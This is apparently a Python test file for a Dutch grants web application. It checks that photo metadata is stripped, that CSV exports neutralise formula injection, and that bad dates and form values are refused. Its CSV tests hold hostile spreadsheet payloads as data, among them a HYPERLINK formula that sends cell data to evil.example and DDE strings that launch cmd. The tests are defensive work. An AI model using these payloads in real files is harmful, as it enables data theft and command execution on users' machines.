"""Issue 10, finding 10 (grants parts): no text survives photo re-encoding, the CSV cannot run formulas in a
spreadsheet, and a payment date far in the past or future is refused with a clear message."""
import csv
import io
import re
from datetime import date, timedelta

import pytest
from PIL import Image, PngImagePlugin

from tests.grants.test_authz import snapshot
from webapp.csv_safety import spreadsheet_safe
from webapp.extensions import db
from webapp.grants import models as m
from webapp.grants import services as svc
from webapp.media import clean_image

MARKER = b"CANARY-7f3a9c"


def _exif_with_text() -> bytes:
    exif = Image.Exif()
    exif[0x010E] = "description " + MARKER.decode()  # ImageDescription
    exif[0x013B] = "artist " + MARKER.decode()       # Artist
    exif[0x0112] = 1                                 # Orientation
    return exif.tobytes()


def _xmp() -> bytes:
    return (b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
            b'<rdf:Description>' + MARKER + b'</rdf:Description></rdf:RDF></x:xmpmeta>')


def test_jpeg_comment_exif_xmp_and_icc_text_do_not_survive_reencoding():
    out = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 30, 30)).save(
        out, "JPEG", comment=b"COM " + MARKER, exif=_exif_with_text(), xmp=_xmp(),
        icc_profile=b"\0" * 128 + b"icc " + MARKER)
    original = out.getvalue()
    assert original.count(MARKER) >= 4 and b"\xff\xfe" in original  # a COM segment, EXIF, XMP and ICC text
    with Image.open(io.BytesIO(original)) as probe:
        assert MARKER in probe.info["comment"]
    cleaned, mime = clean_image(original)
    assert mime == "image/jpeg"
    assert MARKER not in cleaned
    with Image.open(io.BytesIO(cleaned)) as image:
        assert "comment" not in image.info and "exif" not in image.info and "icc_profile" not in image.info
        assert image.size == (64, 48)
        assert image.getpixel((10, 10))[0] > 150  # still the same picture


def test_png_text_chunks_exif_and_icc_do_not_survive_reencoding():
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "tEXt " + MARKER.decode())
    info.add_itxt("Description", "iTXt " + MARKER.decode())
    info.add_text("Software", "zTXt " + MARKER.decode(), zip=True)
    out = io.BytesIO()
    Image.new("RGBA", (32, 32), (0, 128, 0, 128)).save(out, "PNG", pnginfo=info, exif=_exif_with_text(),
                                                       icc_profile=b"\0" * 128 + b"icc " + MARKER)
    assert MARKER in out.getvalue()
    cleaned, mime = clean_image(out.getvalue())
    assert mime == "image/png" and MARKER not in cleaned
    with Image.open(io.BytesIO(cleaned)) as image:
        assert image.mode == "RGBA" and image.getpixel((1, 1)) == (0, 128, 0, 128)
        assert not {"Comment", "Description", "Software", "exif", "icc_profile"} & set(image.info)


def test_report_photo_with_a_comment_is_stored_without_it(owner, staff, grant_round, initiative, make_application):
    application = make_application(owner, grant_round, initiative, 30_000)
    svc.decide(staff, application, "approve", "Goed.")
    svc.record_payout(staff, application, svc.local_today(), "BP-7")
    db.session.commit()
    out = io.BytesIO()
    Image.new("RGB", (40, 30), (10, 10, 200)).save(out, "JPEG", comment=MARKER)
    svc.submit_report(owner, application, "Het was gezellig.", 12, None, photo=out.getvalue())
    db.session.commit()
    stored = db.session.get(m.GrantReport, application.id)
    assert stored.photo and MARKER not in stored.photo


# ---------------------------------------------------------------- CSV

@pytest.mark.parametrize("value", [
    '=HYPERLINK("http://evil.example","klik")', "=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
    "-2+3+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "  =1+1", "＝1+1", "-", "+", "@", "=",
])
def test_formulas_are_neutralised(value):
    safe = spreadsheet_safe(value)
    assert safe == "'" + value


@pytest.mark.parametrize("value", [
    "+31 20 612 3456", "+31 (0)20 612 3456", "-5", "-5,50", "+1.234,50", "-0.5", "020-612 3456", "Buurtsoep",
    "Koffie = gezellig", "e-mail", "", "1+1",
])
def test_plain_numbers_phone_numbers_and_text_stay_usable(value):
    assert spreadsheet_safe(value) == value


def test_grants_csv_neutralises_the_round_name_and_every_text_cell(client, owner, staff, make_round, make_initiative,
                                                                   make_application):
    grant_round = make_round(name='=HYPERLINK("http://evil.example/?leak="&A1,"Klik hier")')
    initiative = make_initiative(owner, title="@SUM(1+1)*cmd|' /C calc'!A0")
    application = make_application(owner, grant_round, initiative, 30_000, title="-2+3+cmd|' /C calc'!A0")
    svc.decide(staff, application, "approve", "Goed.")
    plain = make_application(owner, grant_round, make_initiative(owner, title="-5"), 20_000,
                             title="+31 20 612 3456")
    svc.decide(staff, plain, "approve", "Goed.")
    db.session.commit()
    response = client.get("/api/v1/gemeenten/GM0363/startbijdragen.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    by_initiative = {row["initiative_id"]: row for row in rows}
    evil = by_initiative[str(initiative.id)]
    assert evil["round"] == "'" + grant_round.name
    assert evil["initiative"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert evil["purpose"] == "'-2+3+cmd|' /C calc'!A0"
    kept = by_initiative[str(plain.initiative_id)]
    assert kept["initiative"] == "-5" and kept["purpose"] == "+31 20 612 3456"
    for row in rows:  # no text cell starts a formula
        for key in ("round", "initiative", "purpose", "district", "date", "paid"):
            assert row[key] == spreadsheet_safe(row[key]) or row[key].startswith("'")


# ---------------------------------------------------------------- payment date

@pytest.fixture
def approved(owner, staff, grant_round, initiative, make_application):
    application = make_application(owner, grant_round, initiative, 30_000)
    svc.decide(staff, application, "approve", "Goed.")
    db.session.commit()
    return application


@pytest.mark.parametrize("paid_on, message", [
    ("0001-01-01", "nog niet toegekend"),
    ("1999-12-31", "nog niet toegekend"),
    ("9999-12-31", "in de toekomst"),
    ((date.today() + timedelta(days=400)).isoformat(), "in de toekomst"),
])
def test_payment_date_out_of_range_is_refused_with_a_clear_message(client, login, staff2, approved, paid_on,
                                                                   message):
    login(client, staff2)
    before = snapshot()
    response = client.post(f"/startbijdragen/aanvraag/{approved.id}/uitbetaling",
                           data={"paid_on": paid_on, "reference": "BP-1"})
    assert response.status_code == 400
    assert message in response.get_data(as_text=True)
    assert snapshot() == before
    assert db.session.get(m.GrantApplication, approved.id).paid_on is None


@pytest.mark.parametrize("paid_on", ["10000-01-01", "2026-02-30", "0000-01-01", "-1-01-01"])
def test_payment_date_that_is_no_date_is_a_400(client, login, staff2, approved, paid_on):
    login(client, staff2)
    before = snapshot()
    response = client.post(f"/startbijdragen/aanvraag/{approved.id}/uitbetaling",
                           data={"paid_on": paid_on, "reference": "BP-1"})
    assert response.status_code == 400 and snapshot() == before


def test_payment_date_before_the_approval_is_refused(staff2, approved):
    with pytest.raises(svc.GrantError) as info:
        svc.record_payout(staff2, approved, svc.local_today() - timedelta(days=1), "BP-1")
    assert "paid_on" in info.value.errors
    db.session.rollback()
    svc.record_payout(staff2, approved, svc.local_today(), "BP-1")  # the day of the approval is fine
    db.session.commit()
    assert approved.status == m.PAID


def test_refund_date_before_the_payment_is_refused(staff2, approved):
    svc.record_payout(staff2, approved, svc.local_today(), "BP-1")
    db.session.commit()
    with pytest.raises(svc.GrantError) as info:
        svc.record_refund(staff2, approved, 1_000, date(1, 1, 1), "Terug.")
    assert "refunded_on" in info.value.errors


# ---------------------------------------------------------------- round form and application form

def _round_post(grant_round, **overrides) -> dict:
    """The round's own values as the edit page sends them, with `overrides`."""
    data = {"name": grant_round.name, "criteria": grant_round.criteria,
            "opens_on": grant_round.opens_on.isoformat(), "closes_on": grant_round.closes_on.isoformat(),
            "budget_cents": "40000", "max_amount_cents": "500", "four_eyes_cents": "1000",
            "quick_lane_cents": "0", "answer_days": "14", "own_contribution_percent": "0", "min_supporters": "0",
            "district_id": "0"}
    data.update(overrides)
    return {k: v for k, v in data.items() if v is not None}


def _round_row(grant_round) -> tuple:
    db.session.expire_all()
    row = db.session.get(m.GrantRound, grant_round.id)
    return row.name, row.criteria, row.opens_on, row.closes_on, row.ask_supporters


def test_round_form_as_sent_by_the_page_is_saved(client, login, staff, grant_round):
    """The baseline of the refusals below: the same form with sensible values is accepted."""
    login(client, staff)
    page = client.get(f"/startbijdragen/regeling/{grant_round.id}/bewerken").get_data(as_text=True)
    assert re.search(r'<div class="choice"><input[^>]*id="ask_supporters"[^>]*type="checkbox" value="y"', page)
    response = client.post(f"/startbijdragen/regeling/{grant_round.id}/bewerken",
                           data=_round_post(grant_round, name="Startbijdragen voorjaar", ask_supporters="y"))
    assert response.status_code == 302, response.get_data(as_text=True)[:2000]
    assert _round_row(grant_round)[0] == "Startbijdragen voorjaar"


@pytest.mark.parametrize("field, value, message", [
    ("opens_on", "0001-01-01", "Kies een datum tussen 1 januari 2000 en"),
    ("opens_on", "1999-12-31", "Kies een datum tussen 1 januari 2000 en"),
    ("closes_on", "9999-12-31", "Kies een datum tussen 1 januari 2000 en"),
    ("closes_on", (date.today() + timedelta(days=365 * 5 + 10)).isoformat(), "Kies een datum tussen 1 januari 2000"),
    ("ask_supporters", "onbekend-social", "Zet het vinkje aan of uit"),
    ("name", "x" * 10_000, "160"),
    ("criteria", "x" * 10_000, "4000"),
])
def test_round_edit_refuses_dates_out_of_window_unknown_checkbox_and_long_text(client, login, staff, grant_round,
                                                                              field, value, message):
    login(client, staff)
    before, row = snapshot(), _round_row(grant_round)
    response = client.post(f"/startbijdragen/regeling/{grant_round.id}/bewerken",
                           data=_round_post(grant_round, **{field: value}), headers={"Accept-Language": "nl"})
    assert response.status_code == 400
    assert message in response.get_data(as_text=True)
    assert snapshot() == before and _round_row(grant_round) == row


def test_round_edit_with_hostile_values_is_still_403_for_other_staff(client, login, staff_utrecht, grant_round):
    login(client, staff_utrecht)
    before, row = snapshot(), _round_row(grant_round)
    response = client.post(f"/startbijdragen/regeling/{grant_round.id}/bewerken",
                           data=_round_post(grant_round, opens_on="0001-01-01", ask_supporters="onbekend-social"))
    assert response.status_code == 403
    assert snapshot() == before and _round_row(grant_round) == row


@pytest.mark.parametrize("line_count", ["99999999999999999999", "-1", "NaN", "31", "²"])
def test_application_with_a_line_count_the_page_never_sends_is_refused(client, login, owner, grant_round, initiative,
                                                                       line_count):
    login(client, owner)
    before = snapshot()
    response = client.post(f"/startbijdragen/regeling/{grant_round.id}/aanvragen?initiatief={initiative.id}",
                           data={"title": "Buurtsoep", "audience": "Buren", "timing": "Zaterdag", "amount_cents": "100",
                                 "line_count": line_count, "line-0-description": "Soep", "line-0-amount": "100",
                                 "action": "save"}, headers={"Accept-Language": "nl"})
    assert response.status_code == 400
    page = response.get_data(as_text=True)
    assert "De regels van uw begroting kwamen niet goed aan" in page
    assert 'value="Soep"' in page  # what was typed comes back
    assert snapshot() == before
